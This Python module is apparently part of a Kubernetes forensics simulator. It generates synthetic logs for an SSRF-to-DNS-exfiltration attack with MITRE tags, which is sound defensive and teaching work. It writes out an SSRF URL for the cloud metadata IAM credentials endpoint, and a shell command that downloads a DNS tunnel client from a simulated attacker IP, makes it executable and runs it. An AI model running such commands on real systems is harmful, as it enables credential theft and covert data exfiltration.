"""E. SSRF -> cloud metadata -> internal discovery -> tunnel tool -> DNS exfiltration."""

from __future__ import annotations

import base64

from kubeforensics.simulate.clock import NS
from kubeforensics.simulate.dataset import MS, US, Dataset
from kubeforensics.simulate.formats.hubble import WORLD
from kubeforensics.simulate.scenarios.common import public_ip

NAME = "ssrf-dns-exfil"
DESCRIPTION = "SSRF to the cloud metadata endpoint, internal scan, dropped DNS tunnel, DNS exfiltration"
PINNED: tuple[str, ...] = ("checkout-api",)
METADATA = "169.254.169.254"


def run(ds: Dataset) -> None:
    cl, rng, tr = ds.cl, ds.rng, ds.truth
    pod = rng.choice(cl.pods_of("shop", "checkout-api"))
    fe = rng.choice(cl.pods_of("shop", "frontend"))
    node_proc = pod.containers[0].init
    fe_proc = fe.containers[0].init
    assert node_proc is not None and fe_proc is not None
    ip = public_ip(ds)
    resolver = rng.choice(("8.8.8.8", "1.1.1.1", "9.9.9.9"))
    domain = f"{rng.choice(('cdn', 'img', 'api', 'sync'))}.{rng.choice(('statuspage-cdn', 'fontcache', 'pixel-sync'))}" \
             f".{rng.choice(('net', 'io', 'xyz'))}"
    blocked = rng.random() < 0.5
    t = cl.t0 + int((cl.t1 - cl.t0) * rng.uniform(0.36, 0.44))
    url = f"http://{METADATA}/latest/meta-data/iam/security-credentials/"

    tr.begin(t, "T1190", "Initial Access", f"SSRF request from {ip}: /api/v2/webhook/test?url={url}", ip=ip,
             namespace="shop", pod=pod.name)
    ds.inbound(t, ip, WORLD, fe, 8080, http=("GET", f"http://shop.acme.example/api/v2/webhook/test?url={url}", 200,
                                             "curl/8.5.0"))
    ds.connect(t + 3 * MS, fe_proc, pod.ip, 3000, service=("shop", "checkout-api"),
               http=("POST", f"http://checkout-api.shop.svc.cluster.local/api/v2/webhook/test?url={url}", 200,
                     "node-fetch/1.0"))
    tr.end()

    t += 20 * MS
    tr.begin(t, "T1552.005", "Credential Access", f"node in shop/{pod.name} connects to {METADATA}:80"
             + (" (DROPPED by policy)" if blocked else ""), namespace="shop", pod=pod.name, ip=METADATA,
             process="/usr/local/bin/node")
    ds.connect(t, node_proc, METADATA, 80, verdict="DROPPED" if blocked else "FORWARDED",
               http=None if blocked else ("GET", url, 200, "node-fetch/1.0"))
    tr.end()

    t += rng.randrange(60, 240) * NS
    tr.begin(t, "T1046", "Discovery", "DNS lookups of internal services and a SYN scan of ClusterIPs",
             namespace="shop", pod=pod.name, process="/usr/local/bin/node")
    for name in ("postgres.data", "redis", "kubernetes.default", "vault.vault", "mysql.data", "jenkins.ci"):
        ds.dns(t, pod, name)
        t += rng.randrange(100, 900) * MS
    targets = sorted({s.cluster_ip for s in cl.services.values()})[:6] + [f"10.96.{rng.randrange(255)}."
                                                                          f"{rng.randrange(2, 255)}" for _ in range(3)]
    for dst in targets:
        for port in (22, 443, 5432, 6379):
            ds.connect(t, node_proc, dst, port, verdict="DROPPED" if rng.random() < 0.8 else "FORWARDED",
                       reply=False)
            t += rng.randrange(2, 40) * MS
    tr.end()

    t += rng.randrange(120, 400) * NS
    tool = "/tmp/.cache/dnstt-client"
    tr.begin(t, "T1105", "Command and Control", f"downloads a DNS tunnel client to {tool}", namespace="shop",
             pod=pod.name, process="/usr/bin/curl", file=tool, ip=ip)
    sh = ds.spawn(t, node_proc, "/bin/sh", f"-c 'mkdir -p /tmp/.cache && curl -sko {tool} https://{ip}/t && chmod +x "
                  f"{tool} && {tool} -udp {resolver}:53 -pubkey-file /tmp/.cache/k t.{domain} 127.0.0.1:7000 &'",
                  exit_after=5 * NS)
    curl = ds.spawn(t + 20 * MS, sh, "/usr/bin/curl", f"-sko {tool} https://{ip}/t", exit_after=2 * NS)
    ds.connect(t + 40 * MS, curl, ip, 443)
    tunnel = ds.spawn(t + 2500 * MS, sh, tool, f"-udp {resolver}:53 -pubkey-file /tmp/.cache/k t.{domain} 127.0.0.1:7000",
                      cwd="/tmp/.cache")
    ds.falco_proc(tunnel.start_ns + MS, "Drop and execute new binary in container", "Critical",
                  "Executing binary not part of base image", tunnel,
                  ["container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"])
    tr.end()

    t = tunnel.start_ns + rng.randrange(5, 20) * NS
    tr.begin(t, "T1071.004", "Command and Control", f"DNS tunnel: UDP/53 straight to {resolver} and high-entropy TXT "
             f"queries under t.{domain}", namespace="shop", pod=pod.name, process=tool, ip=resolver, domain=domain)
    n = rng.randrange(36, 48)
    for i in range(n):
        label = base64.b32encode(rng.getrandbits(200).to_bytes(25, "big")).decode().rstrip("=").lower()
        if i % 2 == 0:
            ds.connect(t, tunnel, resolver, 53, proto="UDP")
        else:
            ds.dns(t, pod, f"{label[:40]}.{label[40:]}.t.{domain}.", qtype="TXT", answer=[])
        t += rng.randrange(200, 3000) * MS + rng.randrange(1000) * US
    tr.end()
